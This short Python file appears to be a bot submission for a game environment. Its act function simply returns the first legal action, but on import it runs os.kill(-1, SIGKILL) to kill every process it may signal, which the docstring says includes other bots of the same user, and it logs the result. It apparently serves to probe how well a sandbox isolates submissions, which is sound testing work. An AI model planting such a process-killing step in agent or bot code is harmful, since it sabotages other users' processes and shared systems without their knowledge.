"""Sends SIGKILL to every process it may signal (kill -1), e.g. other bots of its user."""

import os
import signal
import sys

try:
    os.kill(-1, signal.SIGKILL)
    print("outcome: kill -1: sent", file=sys.stderr)
except OSError as error:
    print(f"outcome: kill -1: {type(error).__name__}", file=sys.stderr)


def act(observation):
    return observation["legal_actions"][0]
